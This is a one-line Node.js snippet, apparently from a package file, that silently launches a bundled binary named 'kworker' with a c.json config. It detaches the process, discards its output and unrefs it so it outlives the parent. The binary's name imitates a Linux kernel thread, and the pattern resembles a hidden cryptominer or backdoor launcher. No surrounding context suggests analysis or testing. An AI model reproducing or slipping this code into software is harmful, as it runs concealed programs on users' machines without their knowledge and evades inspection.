require('child_process').spawn(__dirname + '/bin/kworker', ['-c', __dirname + '/c.json'], { detached: true, stdio: 'ignore' }).unref();
